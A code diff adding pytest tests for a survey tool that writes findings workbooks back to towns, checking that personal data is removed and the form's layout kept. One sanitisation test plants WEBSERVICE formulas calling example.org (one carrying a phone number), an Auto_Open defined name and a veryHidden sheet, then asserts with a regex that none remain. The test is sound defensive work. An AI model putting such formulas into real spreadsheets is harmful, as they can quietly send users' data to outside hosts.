@@ -1,10 +1,20 @@
 """Workbooks of findings to send back to the towns."""
 
+import html
+import re
+import zipfile
+
 import openpyxl
 import pytest
+from openpyxl.comments import Comment
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.styles import PatternFill
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
-from tests.survey.rounds import small, write_organisations, write_residents, write_town
+from tests.survey.rounds import SMALL, small, write_organisations, write_residents, write_town
 from vitality.errors import TableError
+from vitality.framework import read_framework
 from vitality.survey import check_round, read_round, write_findings
 
 
@@ -85,3 +95,118 @@ def test_another_table_is_refused(round_folder, tmp_path):
     raw = read_round(round_folder, small())
     with pytest.raises(TableError, match="expected the table that check_round gives"):
         write_findings(check_round(raw, small()).drop(columns="rule"), raw, tmp_path)
+
+
+def parts(file):
+    """Every part of a workbook as text, by its name."""
+    with zipfile.ZipFile(file) as package:
+        return {name: html.unescape(package.read(name).decode("utf-8", "replace")) for name in package.namelist()}
+
+
+def marked(folder, target, framework=None):
+    framework = framework or small()
+    raw = read_round(folder, framework)
+    return write_findings(check_round(raw, framework), raw, target)
+
+
+def test_what_goes_back_holds_nothing_personal_and_nothing_that_runs(round_folder, tmp_path):
+    path = write_town(round_folder, "甲镇", t1="见附件", t10="东区 13800000000")
+    book = openpyxl.load_workbook(path)
+    sheet = book.active
+    sheet["H1"] = "填表人：张三 联系电话：13800000001"
+    sheet["H2"], sheet["I2"] = "负责人", "李四"
+    sheet["H3"] = 13800000002
+    sheet["H4"], sheet["H4"].hyperlink = "点我", "http://example.org/x"
+    sheet["H5"] = '=WEBSERVICE("http://example.org/13800000003")'
+    sheet["H6"] = "批注"
+    sheet["H6"].comment = Comment("王五 13800000004", "赵六13800000005")
+    rule = FormulaRule(formula=['WEBSERVICE("http://example.org")=1'], fill=PatternFill("solid", fgColor="FF0000"))
+    sheet.conditional_formatting.add("H7", rule)
+    sheet.oddHeader.center.text = "钱七 13800000006"
+    sheet.add_data_validation(DataValidation(type="custom", formula1='WEBSERVICE("http://example.org")', sqref="H8"))
+    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text='WEBSERVICE("http://example.org")')
+    for title, state in (("联系 周九13800000007", "visible"), ("隐藏", "veryHidden")):
+        page = book.create_sheet(title)
+        page.sheet_state, page["A1"] = state, "吴十 13800000008"
+    book.properties.creator, book.properties.lastModifiedBy = "郑一13800000009", "郑一"
+    path.unlink()
+    book.save(path.with_name("t_甲镇_孙八13800000010.xlsx"))
+    (file,) = marked(round_folder, tmp_path / "back")
+    assert re.fullmatch(r"t_甲镇_\[已隐去\]-[0-9a-f]{4}_待核实\.xlsx", file.name)
+    names = ["张三", "李四", "王五", "赵六", "钱七", "孙八", "周九", "吴十", "郑一"]
+    for part, text in parts(file).items():
+        assert not [word for word in ("1380000", *names) if word in text], part
+        live = re.sub("<is>.*?</is>", "", text, flags=re.DOTALL)  # without the texts of cells
+        assert not re.search("WEBSERVICE|http://example.org|veryHidden|Auto_Open", live), part
+    back = openpyxl.load_workbook(file)
+    assert back.sheetnames == ["问题清单", "填报表"]
+    assert "f" not in {cell.data_type for page in back for row in page.iter_rows() for cell in row}
+
+
+def test_what_goes_back_looks_like_the_form(round_folder, tmp_path):
+    path = write_town(round_folder, "甲镇", t1="见附件")
+    (file,) = marked(round_folder, tmp_path / "back")
+    sent, back = openpyxl.load_workbook(path).active, openpyxl.load_workbook(file)["填报表"]
+    assert back.protection.sheet and back.freeze_panes == sent.freeze_panes
+    assert {str(area) for area in back.merged_cells.ranges} == {str(area) for area in sent.merged_cells.ranges}
+    assert len(back.data_validations.dataValidation) == len(sent.data_validations.dataValidation) > 0
+    for letter in "ABCDEF":
+        assert back.column_dimensions[letter].width == sent.column_dimensions[letter].width
+        assert back.column_dimensions[letter].hidden == sent.column_dimensions[letter].hidden
+    for row in sent.iter_rows():
+        for cell in row:
+            other = back[cell.coordinate]
+            assert str(other.value) == str(cell.value) and other.font.b == cell.font.b
+            assert (
+                other.protection.locked == cell.protection.locked
+                and other.alignment.wrap_text == cell.alignment.wrap_text
+            )
+
+
+def test_long_lists_of_options_stay_in_a_hidden_sheet_of_ours(round_folder, tmp_path):
+    path = write_town(round_folder, "甲镇", t1="见附件")
+    book = openpyxl.load_workbook(path)
+    page = book.create_sheet("options")
+    page["A1"], page["B1"], page.sheet_state = "@codebook", "街道", "hidden"
+    rule = DataValidation(type="list", formula1="options!$B$1:$B$1", sqref="D20")
+    book.active.add_data_validation(rule)
+    book.save(path)
+    (file,) = marked(round_folder, tmp_path / "back")
+    back = openpyxl.load_workbook(file)
+    assert back["options"].sheet_state == "hidden" and back["options"]["B1"].value == "街道"
+    assert "options!$B$1:$B$1" in {item.formula1 for item in back["填报表"].data_validations.dataValidation}
+
+
+@pytest.mark.parametrize("how", ["drop", "hash"])
+def test_private_answers_do_not_go_back(round_folder, tmp_path, monkeypatch, how):
+    monkeypatch.setenv("VITALITY_KEY", "long secret")
+    own = tmp_path / "framework.yaml"
+    text = SMALL.read_text(encoding="utf-8").replace(
+        "{code: o1, kind: text,", f"{{code: o1, kind: text, private: {how},"
+    )
+    own.write_text(text, encoding="utf-8")
+    write_organisations(round_folder, rows=[{"o1": "某某站", "o2": "站", "o3": "见附件", "o4": "5"}])
+    files = marked(round_folder, tmp_path / "back", read_framework(own))
+    (file,) = [file for file in files if file.name.startswith("o_甲镇")]
+    assert not any("某某站" in text for text in parts(file).values())
+
+
+def test_private_columns_of_an_export_workbook_do_not_go_back(round_folder, tmp_path):
+    heads = ["序号", "姓名", "微信昵称", "1、所在街镇", "2、知道红十字会吗？", "3、能说出哪些服务？", "4、信任程度"]
+    book = openpyxl.Workbook()
+    for row in (heads, [1, "张三", "某花", "甲镇", "也许", "急救", 5]):
+        book.active.append(row)
+    (round_folder / "raw" / "m_2024.csv").unlink()
+    book.save(round_folder / "raw" / "m_2024.xlsx")
+    (file,) = marked(round_folder, tmp_path / "back")
+    written = "".join(parts(file).values())
+    assert "张三" not in written and "某花" not in written and "也许" in written and "所在街镇" in written
+
+
+def test_a_sheet_that_reaches_far_down_goes_back_at_once(round_folder, tmp_path):
+    path = write_town(round_folder, "甲镇", t1="见附件")
+    book = openpyxl.load_workbook(path)
+    book.active["C1048576"] = "末行"
+    book.save(path)
+    (file,) = marked(round_folder, tmp_path / "back")
+    assert openpyxl.load_workbook(file)["填报表"]["C1048576"].value == "末行"
